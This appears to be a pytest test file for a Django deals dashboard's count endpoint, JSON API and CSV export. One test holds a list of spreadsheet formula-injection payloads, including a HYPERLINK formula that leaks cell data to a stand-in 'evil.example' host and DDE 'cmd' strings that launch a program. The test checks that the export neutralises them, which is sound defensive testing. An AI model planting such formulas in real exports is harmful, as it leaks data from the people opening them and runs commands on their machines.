"""The total count, the JSON API and the CSV export."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from deals.columns import COLUMNS
from deals.export import EXTRAS
from deals.models import DealStatus
from tests.dashboard.helpers import make_deal, many_deals

pytestmark = pytest.mark.django_db


def test_the_total_deal_count_endpoint(client):
    many_deals(7)
    response = client.get("/api/total_deals")
    assert response.status_code == 200
    assert response.json() == {"total_deals": 7}


def test_the_api_returns_raw_values_with_the_same_filters_sort_and_paging(client):
    many_deals(60)
    make_deal("C000000001", delta_percent=10, now_price=1234)

    response = client.get("/api/deals", {"page": 2, "delta_percent_min": 0})

    data = response.json()
    assert (data["count"], data["page"], data["pages"]) == (61, 2, 2)
    assert len(data["results"]) == 11
    last = data["results"][-1]
    assert set(last) == {c.name for c in COLUMNS} | {e.name for e in EXTRAS}
    assert last["asin"] == "C000000001" and last["now_price"] == 1234
    assert last["price_changed_at"].endswith("Z")  # ISO 8601, UTC


@pytest.mark.parametrize(
    ("page", "message"),
    [
        ("0", "That page number is less than 1."),
        ("-1", "That page number is less than 1."),
        (str(10**30), "That page contains no results."),
        ("3", "That page contains no results."),
        ("abc", "That page number is not an integer."),
        ("1.5", "That page number is not an integer."),
        ("9" * 5000, "That page number is not an integer."),
    ],
)
def test_the_api_rejects_a_page_that_is_not_there_with_400(client, page, message):
    many_deals(60)  # two pages
    response = client.get("/api/deals", {"page": page})
    assert response.status_code == 400
    assert response.json() == {"errors": {"page": [{"message": message, "code": "invalid_page"}]}}


def test_the_api_serves_page_one_of_no_deals(client):
    response = client.get("/api/deals", {"page": 1})
    assert response.status_code == 200
    assert (response.json()["count"], response.json()["results"]) == (0, [])


def test_the_api_rejects_invalid_filters_with_400(client):
    response = client.get("/api/deals?sales_rank_max=many")
    assert response.status_code == 400
    assert "sales_rank_max" in response.json()["errors"]


def test_the_csv_streams_every_filtered_row_under_a_header_of_column_labels(client):
    deals = many_deals(130)
    make_deal("C000000001", delta_percent=-1)  # filtered out

    response = client.get("/deals.csv?delta_percent_min=0&sort=-delta_percent")

    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    # The shipped query averages over 90 days (dateRange 3): the heading says so.
    labels = ["90-day avg" if c.name == "avg_price" else c.label for c in COLUMNS]
    assert rows[0] == [*labels, *(e.label for e in EXTRAS)]
    assert len(set(rows[0])) == len(rows[0])  # a spreadsheet's headings name one column each
    assert [r[1] for r in rows[1:]] == [d.asin for d in deals]
    now = rows[1][[c.name for c in COLUMNS].index("now_price")]
    assert now == "10.00"


HOSTILE_TITLES = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a discount")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_the_csv_never_hands_a_spreadsheet_a_formula_and_keeps_numbers_numbers(client):
    for i, title in enumerate(HOSTILE_TITLES):
        make_deal(f"H{i:09d}", title=title, delta_percent=90 - i, profit=-250, roi_percent=-12)

    response = client.get("/deals.csv")

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    names = [c.name for c in COLUMNS]
    by_asin = {r[names.index("asin")]: r for r in rows[1:]}
    for i, title in enumerate(HOSTILE_TITLES):
        row = by_asin[f"H{i:09d}"]
        # Shown as the seller wrote it, behind the quote a spreadsheet hides and does not run.
        assert row[names.index("title")] == "'" + title
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
        # A loss is still a number a spreadsheet can sum, not neutralised text.
        assert row[names.index("profit")] == "-2.50" and float(row[names.index("profit")]) < 0
        assert float(row[names.index("roi_percent")]) == -12


@pytest.mark.parametrize("url", ["/api/deals", "/api/total_deals"])
def test_the_api_answers_401_to_anonymous_clients(url):
    response = Client().get(url)
    assert response.status_code == 401
    assert response.json() == {"error": "authentication required"}


def test_a_filtered_count_follows_the_next_entry(client):
    for i in range(3):
        make_deal(f"C{i:09d}", delta_percent=70, entered=True)
    assert client.get("/api/deals?delta_percent_min=60").json()["count"] == 3
    make_deal("C000000009", delta_percent=80, entered=True)
    assert client.get("/api/deals?delta_percent_min=60").json()["count"] == 4


def test_the_api_and_the_csv_say_whether_the_buy_price_was_checked(client):
    from django.utils import timezone

    make_deal("E000000001", delta_percent=60, now_price=1800, est_landed=2199, profit=350)
    make_deal(
        "C000000001",
        delta_percent=50,
        now_price=1800,
        est_landed=2199,
        now_total=2000,
        enriched_at=timezone.now(),
        profit=565,
    )

    api = {r["asin"]: r for r in client.get("/api/deals").json()["results"]}
    response = client.get("/deals.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    assert (api["E000000001"]["buy_price_checked"], api["E000000001"]["est_landed"]) == (
        False,
        2199,
    )
    assert api["C000000001"]["buy_price_checked"] is True
    header = rows[0]
    by_asin = {r[header.index("ASIN")]: r for r in rows[1:]}
    assert by_asin["E000000001"][header.index("Buy price checked")] == "no"
    assert by_asin["E000000001"][header.index("Est. buy")] == "21.99"
    assert by_asin["C000000001"][header.index("Buy price checked")] == "yes"


def test_the_api_and_the_csv_carry_the_seller_line_the_status_and_the_buy_price(client):
    from django.utils import timezone

    make_deal(
        "C000000001",
        delta_percent=60,
        now_price=2000,
        now_total=2191,
        now_seller_id="A2GRANITE",
        now_seller_name="Granite State Media",
        now_condition=3,
        now_is_fba=False,
        enriched_at=timezone.now(),
    )
    make_deal(
        "U000000001",
        delta_percent=50,
        now_price=1800,
        est_landed=2199,
        status=DealStatus.UNVERIFIED,
        status_reason="missing from the complete sweep",
    )

    api = {r["asin"]: r for r in client.get("/api/deals").json()["results"]}
    response = client.get("/deals.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))

    checked, unverified = api["C000000001"], api["U000000001"]
    assert (checked["now_seller_name"], checked["now_seller_id"]) == (
        "Granite State Media",
        "A2GRANITE",
    )
    assert (checked["now_condition"], checked["now_condition_name"]) == (3, "Very Good")
    assert checked["now_is_fba"] is False
    assert (checked["buy_price"], checked["buy_price_source"]) == (2191, "checked")
    assert (checked["status"], checked["left_reason"]) == ("listed", "")
    assert (unverified["buy_price"], unverified["buy_price_source"]) == (2199, "estimate")
    assert (unverified["status"], unverified["left_reason"]) == ("unverified", "")
    assert unverified["status_reason"] == "missing from the complete sweep"
    assert checked["category_name"] == "Books"

    header = rows[0]
    by_asin = {r[header.index("ASIN")]: dict(zip(header, r, strict=True)) for r in rows[1:]}
    assert (
        by_asin["C000000001"]
        | {
            "Seller": "Granite State Media",
            "Seller id": "A2GRANITE",
            "Condition": "Very Good",
            "FBA": "no",
            "Buy price": "21.91",
            "Buy price is": "checked",
            "Status": "listed",
            "Left because": "",
        }
        == by_asin["C000000001"]
    )
    assert by_asin["U000000001"]["Status reason"] == "missing from the complete sweep"
    assert by_asin["U000000001"]["Buy price is"] == "estimate"


def test_a_left_deal_says_why_it_left():
    from deals.export import deal_row, record

    deal = make_deal("L000000001", status=DealStatus.LEFT, status_reason="sold out")

    assert (record(deal_row(deal))["status"], record(deal_row(deal))["left_reason"]) == (
        "left",
        "sold out",
    )


# -- the deal's status ---------------------------------------------------------------------


def _three_statuses():
    make_deal("L000000001", delta_percent=60)
    make_deal("U000000001", delta_percent=70, status="unverified", status_reason="missing")
    make_deal(
        "X000000001",
        delta_percent=80,
        status="left",
        status_reason="price $400 above the query's $301 maximum",
    )


def test_left_deals_are_left_out_of_the_api_the_count_and_the_csv_unless_asked_for(client):
    _three_statuses()

    data = client.get("/api/deals").json()
    assert [r["asin"] for r in data["results"]] == ["L000000001", "U000000001"]
    assert data["count"] == 2
    assert client.get("/api/total_deals").json() == {"total_deals": 2}
    csv_rows = list(
        csv.reader(io.StringIO(b"".join(client.get("/deals.csv").streaming_content).decode()))
    )
    header = csv_rows[0]
    assert [r[header.index("ASIN")] for r in csv_rows[1:]] == ["L000000001", "U000000001"]
    unverified_row = dict(zip(header, csv_rows[2], strict=True))
    assert (unverified_row["Status"], unverified_row["Status reason"]) == ("unverified", "missing")

    left = client.get("/api/deals", {"status": "left"}).json()
    assert left["count"] == 1
    (row,) = left["results"]
    assert row["asin"] == "X000000001" and row["status"] == "left"
    assert row["left_reason"] == "price $400 above the query's $301 maximum"
    only = client.get("/api/deals", {"status": "unverified"}).json()["results"]
    assert [(r["asin"], r["status"], r["status_reason"]) for r in only] == [
        ("U000000001", "unverified", "missing")
    ]
    listed = client.get("/api/deals", {"status": "listed"}).json()["results"]
    assert [(r["asin"], r["status"]) for r in listed] == [("L000000001", "listed")]
    assert listed[0]["left_reason"] == ""
    assert client.get("/api/deals", {"status": "gone"}).status_code == 400
